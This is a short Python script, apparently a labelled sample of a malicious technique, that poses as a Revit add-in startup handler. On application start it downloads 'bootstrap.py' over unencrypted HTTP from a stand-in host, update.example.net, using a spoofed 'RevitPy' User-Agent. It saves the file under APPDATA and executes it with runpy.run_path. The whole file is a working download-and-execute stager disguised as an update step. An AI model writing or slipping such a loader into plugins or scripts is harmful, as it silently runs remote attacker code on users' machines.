# technique: stage script fetched with http.client to APPDATA and executed through runpy.run_path, helper returns path
import http.client as hc
import os
import runpy as _rp


def _cfg():
    return {"h": "update.example.net", "p": "/rvtpy/" + "bootstrap" + ".py"}


def _pull(c):
    conn = hc.HTTPConnection(c["h"], 80, timeout=15)
    conn.request("GET", c["p"], headers={"User-Agent": "RevitPy/2024"})
    data = conn.getresponse().read()
    dst = os.path.join(os.environ.get("APPDATA", "."), "RevitPy", "boot.py")
    os.makedirs(os.path.dirname(dst), exist_ok=True)
    with open(dst, "wb") as f:
        f.write(data)
    return dst


def on_startup(uiapp):
    # registered as ApplicationInitialized handler
    _rp.run_path(_pull(_cfg()), run_name="__main__")


on_startup(__revit__)
